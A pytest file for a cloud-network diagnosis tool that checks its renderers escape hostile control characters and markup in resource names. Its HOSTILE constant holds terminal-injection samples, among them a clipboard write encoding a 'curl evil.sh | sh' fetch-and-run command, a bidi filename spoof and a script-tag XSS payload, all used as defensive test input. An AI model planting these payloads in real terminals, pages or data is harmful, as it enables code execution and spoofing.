"""Nothing untrusted reaches a terminal raw; Markdown and HTML keep their structure."""

from __future__ import annotations

import re

import pytest

from assistant.engine import diagnose
from assistant.models.finding import Diagnosis, NotCheckedItem
from assistant.render import render_markdown, render_text
from assistant.render.html_out import render_html
from assistant.render.text import finding_lines
from assistant.sources.demo import build
from assistant.topology import Topology

# An OSC 52 clipboard write, a title change, a screen clear, a bidi override, C1 CSI, a bell.
HOSTILE = (
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    "\x1b]0;pwned\x07"
    "\x1b[2J\x1b[H"
    "\u202egnp.exe"
    "\x9b31m"
    "|`</script><script>alert(1)</script>\n| x | y |"
)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def _hostile_snapshot():
    """The demo with a hostile Name on every subnet, security group and NAT gateway."""
    b = build()
    for coll in ("Subnets", "NatGateways", "Vpcs", "InternetGateways"):
        for i, item in enumerate(b.data[coll]):
            for t in item.get("Tags", []):
                if t["Key"] == "Name":
                    t["Value"] = f"{t['Value']}{HOSTILE}{i}"
    for g in b.data["SecurityGroups"]:
        g["Description"] = HOSTILE
    return b.snapshot()


@pytest.fixture(scope="module")
def hostile():
    snap = _hostile_snapshot()
    d = diagnose(snap)
    d.not_checked.append(
        NotCheckedItem(what="Instances", reason=f"AccessDenied: {HOSTILE}", action="ec2:X")
    )
    return snap, d


def test_text_output_shows_every_control_character_escaped(hostile):
    snap, d = hostile
    assert any("\x1b" in e for f in d.findings for e in f.evidence)  # the attack reached them
    out = render_text(d, width=100)
    assert not RAW.search(out), RAW.search(out)
    assert "\\x1b]52;c;" in out and "\\u202e" in out and "\\x9b" in out
    coloured = render_text(d, colour=True, width=100)
    # only our own colour sequences: ESC [ digits ; m
    assert not re.search(r"\x1b(?!\[[0-9;]*m)", coloured)


def test_very_long_values_are_cut_with_an_ellipsis():
    d = Diagnosis(not_checked=[NotCheckedItem(what="x" * 5000, reason="y" * 50000)])
    out = render_text(d, width=80)
    assert "…" in out and len(out) < 3000


def test_finding_lines_wrap_to_the_width_asked_except_commands(hostile):
    _, d = hostile
    for width in (40, 80, 120):
        for f in d.findings:
            cli = {"        " + c for s in f.fix for c in s.cli}
            for line in finding_lines(f, width=width):
                if line in cli or line.lstrip().startswith(("Check", "Docs")):
                    continue
                words = line.split()
                # a single unbreakable token (an ARN) may run over; prose may not
                assert len(line) <= width or len(words) <= 2 or max(map(len, words)) > width // 3, (
                    width,
                    line,
                )


def test_terminal_width_is_read_and_bounded(monkeypatch):
    from assistant.render.text import MAX_WIDTH, MIN_WIDTH, terminal_width

    for cols, want in (("80", 80), ("10", MIN_WIDTH), ("500", MAX_WIDTH)):
        monkeypatch.setenv("COLUMNS", cols)
        assert terminal_width() == want
    monkeypatch.setenv("COLUMNS", "80")
    from assistant.sources.demo import demo_snapshot

    out = render_text(diagnose(demo_snapshot()))
    prose = [
        ln
        for ln in out.splitlines()
        if not ln.startswith(("        aws ", "  Check ", "  Docs "))  # commands paste whole
    ]
    over = [ln for ln in prose if len(ln) > 80]
    assert not over, over
    wide = render_text(diagnose(demo_snapshot()), width=120)
    assert max(map(len, wide.splitlines())) > 100  # the width is used, not a fixed 80


def test_markdown_cells_and_mermaid_labels_hold(hostile):
    snap, d = hostile
    md = render_markdown(d, topology=Topology(snap))
    assert not RAW.search(md.replace("\n", ""))
    table = md.split("## Subnets", 1)[1].split("\n\n", 2)[1]
    rows = table.splitlines()
    assert len(rows) == 2 + len(d.subnets)  # a newline in a name adds no row
    cells = {len(re.findall(r"(?<!\\)\|", r)) for r in rows}
    assert cells == {8}, rows  # a | in a name does not add a column
    block = md.split("```mermaid\n", 1)[1].split("\n```", 1)[0]
    assert "```" not in block and "<script" not in block
    # no unescaped pipe, backtick or newline inside any quoted label
    for label in re.findall(r'"([^"]*)"', block):
        assert "|" not in label and "`" not in label


def test_html_has_no_live_markup_from_names(hostile):
    snap, d = hostile
    page = render_html(d, Topology(snap))
    assert "<script" not in page and not RAW.search(page.replace("\n", ""))


def test_trace_text_shows_names_escaped(hostile):
    from assistant.trace import Tracer
    from assistant.trace.render import render_trace_text

    snap, _ = hostile
    tr = Tracer(snap)
    outs = [render_trace_text(tr.trace(i.InstanceId, "internet", 443)) for i in snap.Instances]
    assert any("\\x1b" in o for o in outs)  # the hostile names are on the path, escaped
    for o in outs:
        assert not RAW.search(o), RAW.search(o)


@pytest.mark.parametrize("fmt", ["text", "markdown", "html"])
def test_scan_command_stdout_has_nothing_raw(fmt, tmp_path, capsys):
    from assistant.cli import main
    from assistant.sources.files import dump_snapshot

    path = tmp_path / "hostile.json"
    path.write_bytes(dump_snapshot(_hostile_snapshot()))
    assert main(["scan", "--snapshot", str(path), "--format", fmt, "--color", "always"]) == 1
    out = capsys.readouterr().out
    assert "pwned" in out  # the names are shown...
    assert not re.search(r"\x1b(?!\[[0-9;]*m)", out)  # ...with no escape but our colours
    assert not RAW.search(out.replace("\x1b", "").replace("\n", ""))


@pytest.mark.parametrize(
    "ch", ["\x00", "\x07", "\x1b", "\x7f", "\x9b", "\u202e", "\u2067", "\u061c", "\u2028", "\r"]
)
def test_clean_escapes_each_unsafe_character_and_keeps_text(ch):
    from assistant.render.safe import clean, is_clean

    out = clean(f"café-{ch}-日本-🙂")
    assert ch not in out and out.startswith("café-\\") and out.endswith("-日本-🙂")
    assert is_clean(out) and not is_clean(ch)
    assert clean("ok\tand\nnew", keep_newlines=True) == "ok\tand\nnew"  # near miss: kept
    assert clean("x" * 300) == "x" * 199 + "…" and clean("x" * 200) == "x" * 200
